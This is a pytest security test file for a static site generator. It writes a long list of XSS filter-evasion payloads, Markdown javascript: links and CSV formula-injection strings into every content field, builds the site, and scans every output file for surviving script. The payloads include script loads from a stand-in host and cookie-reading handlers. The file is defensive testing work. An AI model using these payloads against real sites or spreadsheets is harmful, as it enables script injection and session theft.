"""Issue 7: hostile content cannot put script into any output file.

Every payload below (OWASP XSS filter-evasion cheat-sheet style) is written into every
translated text field, every Markdown body, explainer front matter, source titles and
publishers, and into source URLs; the whole site is built by the real command (pages,
feeds, sitemap, open data, search index) and every output file is scanned. Editors may
use no raw HTML at all (docs/raw-html.md): Markdown gives them what the site needs.
"""
from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from kembar import cli, pipeline
from kembar.render import ALLOWED_TAGS

BASE = Path(__file__).resolve().parent / "invalid" / "_base" / "content"

PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">X</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u2028<script>alert(1)</script>\u2029",
    # Markdown that makes links, images and raw HTML blocks
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1) \"title\")",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<div>\n<script>alert(1)</script>\n</div>",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    # Formula injection into spreadsheets that open the open-data CSV
    "=HYPERLINK(\"https://xss.example\",\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
]
MARKERS = re.compile(r"alert|xss|fromcharcode|expression|calc|config", re.I)
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "cite",
                  "srcset", "ping", "manifest", "icon", "dynsrc", "lowsrc", "longdesc", "to", "from", "values",
                  "by", "srcdoc", "codebase", "archive", "classid"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "script"}


def yaml_str(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML), exact for any text."""
    return json.dumps(text)


def texts(payload: str) -> str:
    return "{" + ", ".join(f"{lang}: {yaml_str(payload + ' ' + lang)}" for lang in ("id", "en", "ja")) + "}"


def hostile_site(root: Path, url_of, payloads=PAYLOADS) -> Path:
    """The base site with one partnership, two places, one sector and one explainer per
    payload, the payload in every text; url_of(i, payload) gives each source's URL."""
    content = root / "content"
    shutil.copytree(BASE, content)
    everything = " ".join(payloads)
    (content / "site.yaml").write_text(
        f"title: {texts('Kota ' + everything)}\ndescription: {texts(everything)}\nlanguages: [id, en, ja]\n"
        "base_url: https://example.github.io/kota-kembar/\ncontact: https://github.com/example/kota-kembar/issues\n",
        encoding="utf-8")
    vocabulary = (content / "vocabulary.yaml").read_text(encoding="utf-8")
    head, tail = vocabulary.split("place_kinds:\n")
    sectors = "".join(f"  s{i}:\n    label: {texts(p)}\n    definition: {texts(p)}\n" for i, p in enumerate(payloads))
    vocabulary = head + sectors + "place_kinds:\n" + tail
    for label in ("Sister city", "Exploring", "Letter of intent signed", "Regency", "City"):  # existing terms too
        vocabulary = vocabulary.replace(f"en: {label}}}", f"en: {yaml_str(label + payloads[len(label)])}}}")
    (content / "vocabulary.yaml").write_text(vocabulary, encoding="utf-8")
    for i, p in enumerate(payloads):
        source = (f"  - title: {yaml_str(p)}\n    publisher: {yaml_str(p)}\n    url: {yaml_str(url_of(i, p))}\n"
                  f"    lang: en\n")
        for suffix, kind, country, location in (("id", "regency", "ID", "[-6.2, 106.8]"),
                                                 ("xx", "city", "JP", "[35.6, 139.7]")):
            (content / f"places/p{i}-{suffix}.yaml").write_text(
                f"names: {texts(p)}\nkind: {kind}\ncountry: {country}\nregion: {texts(p)}\nlocation: {location}\n"
                f"description: {texts(p)}\nsources:\n{source}", encoding="utf-8")
        slug = f"p{i}-id-p{i}-xx"
        (content / f"partnerships/{slug}.yaml").write_text(
            f"parties: [p{i}-id, p{i}-xx]\ntype: sister-city\nstatus: exploring\nsectors: [s{i}]\n"
            f"summary: {texts(p)}\ncaution: {texts(p)}\ntimeline:\n"
            f"  - date: \"2020-0{1 + i % 9}\"\n    stage: exploring\n    text: {texts(p)}\nsources:\n{source}",
            encoding="utf-8")
        for lang in ("id", "en", "ja"):
            body = f"{p}\n\n## {p}\n\n- {p}\n\n> {p}\n\n[{p}](place:p{i}-xx) *{p}*\n"
            (content / f"partnerships/{slug}.{lang}.md").write_text(body, encoding="utf-8")
            (content / f"explainers/x{i}.{lang}.md").write_text(
                f"---\ntitle: {yaml_str(p)}\nsummary: {yaml_str(p)}\norder: {i + 2}\n---\n{body}", encoding="utf-8")
    return content


# -- scanning ---------------------------------------------------------------------------------

def bad_url(value: str) -> bool:
    plain = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return plain.startswith(BAD_SCHEMES) or any(f"url={s}" in plain for s in BAD_SCHEMES)


class Scanner(HTMLParser):
    """Everything a browser could run in one HTML document, as the parser sees it."""

    def __init__(self, where: str, base_path: str, allowed_tags):
        super().__init__(convert_charrefs=True)
        self.where, self.base_path, self.allowed = where, base_path, allowed_tags
        self.found, self.tags, self.raw = [], set(), None

    def problem(self, what: str) -> None:
        self.found.append(f"{self.where}: {what}")

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.add(tag)
        if tag in FORBIDDEN_TAGS - {"script"} or (self.allowed is not None and tag not in self.allowed):
            self.problem(f"<{tag}> {attrs}")
        if tag == "script":
            src = attributes.get("src")
            if src is not None and not src.startswith(self.base_path):
                self.problem(f"script from elsewhere: {src}")
            self.raw = "script"  # inline: its text is checked below
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problem(f"meta refresh {attrs}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problem(f"event handler <{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and bad_url(value):
                self.problem(f"<{tag} {name}={value!r}>")
            if name == "style" and (MARKERS.search(value) or re.search(r"url\s*\(|@import|behavior|binding", value, re.I)):
                self.problem(f"<{tag} style={value!r}>")
        if tag == "style":
            self.raw = "style"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.raw = None

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self.raw = None

    def handle_data(self, data):
        if self.raw and MARKERS.search(data):
            self.problem(f"<{self.raw}> holds {data[:80]!r}")


def scan_html(where: str, text: str, base_path: str, allowed_tags=None) -> list[str]:
    """Problems in one HTML text; allowed_tags (if given): the elements that may appear."""
    scanner = Scanner(where, base_path, allowed_tags)
    scanner.feed(text)
    scanner.close()
    found = scanner.found
    for p in PAYLOADS:  # escaped output never contains a payload's markup as it was written
        if re.search(r"<[a-z!/]", p, re.I) and p in text:
            found.append(f"{where}: unescaped {p[:60]!r}")
    return found


def html_tags(out: Path) -> set[str]:
    tags = set()
    for path in out.rglob("*.html"):
        scanner = Scanner("", "/", None)
        scanner.feed(path.read_text(encoding="utf-8"))
        tags |= scanner.tags
    return tags


def scan_xml(where: str, data: bytes, base_path: str) -> list[str]:
    try:
        root = ElementTree.fromstring(data)
    except ElementTree.ParseError as e:
        return [f"{where}: not well-formed XML any more: {e}"]
    found = []
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        if name in FORBIDDEN_TAGS:
            found.append(f"{where}: <{name}>")
        for attribute, value in element.attrib.items():
            if attribute.rsplit("}", 1)[-1] in URL_ATTRIBUTES and bad_url(value):
                found.append(f"{where}: <{name} {attribute}={value!r}>")
        if element.get("type") == "html" and element.text:  # feed readers render it as HTML
            found += scan_html(f"{where} <{name} type=html>", element.text, base_path)
        if element.get("type") == "xhtml":
            found += scan_html(f"{where} <{name} type=xhtml>", ElementTree.tostring(element, "unicode"), base_path)
    return found


def scan_json(where: str, value, key: str = "") -> list[str]:
    if isinstance(value, dict):
        return [f for k, v in value.items() for f in scan_json(where, v, k if key != "url" else key)]
    if isinstance(value, list):
        return [f for v in value for f in scan_json(where, v, key)]
    if isinstance(value, str) and key in ("url", "href", "link", "$schema", "source") and bad_url(value):
        return [f"{where}: {key}={value!r}"]
    return []


def scan_csv(where: str, text: str) -> list[str]:
    """A cell a spreadsheet would read as a formula (OWASP: CSV injection)."""
    return [f"{where}: formula cell {cell[:40]!r}" for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def scan_pagefind(where: str, data: bytes, base_path: str) -> list[str]:
    """Pagefind keeps page text as text; its pagefind.js escapes < and > in it before the UI
    puts an excerpt into the page with innerHTML (test_pagefind_escapes_excerpts)."""
    fragment = json.loads(gzip.decompress(data).decode("utf-8").removeprefix("pagefind_dcd"))
    excerpt = fragment["content"].replace("<", "&lt;").replace(">", "&gt;")
    return scan_html(where, excerpt, base_path, allowed_tags=set())


def scan_site(out: Path, base_path: str, allowed_tags) -> tuple[list[str], dict[str, int]]:
    found, kinds = [], {}
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        name = path.relative_to(out).as_posix()
        data = path.read_bytes()
        kind = path.suffix or path.name
        if kind == ".html":
            found += scan_html(name, data.decode("utf-8"), base_path, allowed_tags)
        elif kind in (".xml", ".svg"):
            found += scan_xml(name, data, base_path)
        elif kind in (".json", ".geojson"):
            found += scan_json(name, json.loads(data))
        elif kind == ".csv":
            found += scan_csv(name, data.decode("utf-8"))
        elif kind == ".pf_fragment":
            found += scan_pagefind(name, data, base_path)
        elif kind in (".txt",):
            found += [f"{name}: {m.group()}" for m in MARKERS.finditer(data.decode("utf-8"))]
        else:
            continue  # the engine's own scripts, styles and Pagefind's binary index
        kinds[kind] = kinds.get(kind, 0) + 1
    return found, kinds


# -- the tests --------------------------------------------------------------------------------

def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_hostile_urls_are_refused_at_their_line(tmp_path):
    """Each payload as a source URL on its own, and after https://: the validator takes
    only http(s) addresses without quotes, angle brackets or spaces."""
    content = hostile_site(tmp_path, lambda i, p: p if i % 2 else "https://example.org/" + p)
    _, outputs, errors = pipeline.in_memory(content)
    assert outputs is None
    assert errors and all(e.message.startswith("url must be an http:// or https:// address") for e in errors)
    refused = {e.path for e in errors}
    for i, p in enumerate(PAYLOADS):
        if i % 2:  # not a web address at all: always refused, in both places that use it
            assert {f"content/places/p{i}-id.yaml", f"content/partnerships/p{i}-id-p{i}-xx.yaml"} <= refused, p


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """The hostile site, built by the command line with its search index. URLs are each
    payload after https:// where the validator takes it, else percent-encoded."""
    root = tmp_path_factory.mktemp("hostile")
    content = hostile_site(root / "try", lambda i, p: "https://example.org/" + p)
    _, _, errors = pipeline.in_memory(content)
    refused = {int(re.match(r"content/\w+/p(\d+)-", e.path).group(1)) for e in errors}
    taken = lambda i, p: "https://example.org/" + (quote(p) if i in refused else p)  # noqa: E731
    content = hostile_site(root, taken)
    out = root / "site"
    assert cli.main(["build", "--content", str(content), "--out", str(out)]) == 0
    # The same site with plain words: the elements the templates make themselves.
    plain = hostile_site(root / "plain", taken, [f"Plain-words-{i}" for i in range(len(PAYLOADS))])
    assert cli.main(["build", "--no-search", "--content", str(plain), "--out", str(root / "plain-site")]) == 0
    # The statistics charts wrap a long label into <tspan>s (kembar/charts.py); plain words never wrap.
    return out, len(PAYLOADS) - len(refused), html_tags(root / "plain-site") | ALLOWED_TAGS | {"tspan"}


def test_no_payload_survives_in_any_output_file(hostile_build):
    out, _, allowed_tags = hostile_build
    found, kinds = scan_site(out, "/kota-kembar/", allowed_tags)
    assert found == []
    assert kinds[".html"] > 3 * 4 * len(PAYLOADS)  # partnership, two places, explainer pages per language
    assert {".xml", ".json", ".geojson", ".csv", ".pf_fragment", ".txt"} <= kinds.keys()


def test_the_payloads_are_in_the_output_as_text(hostile_build):
    """The scan is not vacuous: the hostile text reached the pages, escaped."""
    out, accepted_urls, _ = hostile_build
    page = (out / "en/partnerships/p0-id-p0-xx/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt; en" in page
    assert "&lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt;" in (out / "en/feed.xml").read_text(encoding="utf-8")
    data = json.loads((out / "data/partnerships.json").read_text(encoding="utf-8"))
    assert any(p["summary"]["en"] == PAYLOADS[0] + " en" for p in data["partnerships"])
    assert accepted_urls >= 3  # payloads that are valid inside an https URL reached the pages' links


def test_the_scanner_finds_what_it_looks_for():
    """Each kind of leak is caught (so a clean scan means something)."""
    base = "/kota-kembar/"
    leaks = ['<p><script>alert(1)</script></p>', '<img src=x onerror=alert(1)>', '<a href=" jav&#x09;ascript:x">',
             '<iframe src="/kota-kembar/"></iframe>', '<div style="background:url(javascript:alert(1))">',
             '<meta http-equiv="refresh" content="0;url=data:text/html,x">', '<script src="https://evil/x.js"></script>',
             '<svg><a xlink:href="data:text/html,x">x</a></svg>', '<style>li{background:url(x)}</style><b>alert</b>'
             '<style>x{behavior:alert}</style>']
    for leak in leaks:
        assert scan_html("x.html", f"<html><body>{leak}</body></html>", base), leak
    assert scan_html("x.html", f'<script src="{base}static/x.js"></script><a href="{base}en/">x</a>', base) == []
    assert scan_html("x.html", "<p><marquee>x</marquee></p>", base, allowed_tags={"p"})
    assert scan_xml("f.xml", b'<feed><content type="html">&lt;script&gt;alert(1)&lt;/script&gt;</content></feed>', base)
    assert scan_xml("f.xml", b"<feed><title>unclosed</feed>", base)
    assert scan_csv("d.csv", 'a,b\nx,"=HYPERLINK(1)"\n')
    assert scan_json("d.json", {"sources": [{"url": "javascript:alert(1)"}]})


def test_pagefind_escapes_excerpts(hostile_build):
    """scan_pagefind relies on this line of Pagefind's own script (a Pagefind upgrade that
    dropped it would make the index a way in)."""
    out, _, _ = hostile_build
    script = (out / "pagefind/pagefind.js").read_text(encoding="utf-8")
    assert 'fragment.content.replace(/</g,"&lt;").replace(/>/g,"&gt;")' in script


def test_raw_html_that_is_removed_is_a_warning_at_its_line(make_site, capsys):
    """An editor who writes <script> or <iframe> in Markdown learns that it is removed, where,
    and where the rule is written; a tag inside code is text, and Markdown's own tags pass."""
    from kembar.cli import main

    content = make_site()
    story = content / "partnerships/badung-fujisawa.id.md"
    story.write_text(story.read_text(encoding="utf-8") + "\nVideo: <iframe src=\"https://x.org\"></iframe>\n\n"
                     "`<script>` is code, and <abbr title=\"x\">so</abbr> is fine.\n\n<script>alert(1)</script>\n",
                     encoding="utf-8")
    assert main(["check", "--content", str(content)]) == 0  # a warning, not an error
    err = capsys.readouterr().err
    lines = story.read_text(encoding="utf-8").split("\n")
    iframe = next(n for n, line in enumerate(lines, 1) if "<iframe" in line)
    script = next(n for n, line in enumerate(lines, 1) if line.startswith("<script>"))
    assert (f"warning: content/partnerships/badung-fujisawa.id.md:{iframe}:8: <iframe> is removed from the page: "
            "Markdown bodies may not hold raw HTML (see docs/raw-html.md)") in err
    assert f"warning: content/partnerships/badung-fujisawa.id.md:{script}:1: <script> is removed" in err
    assert err.count("is removed from the page") == 2
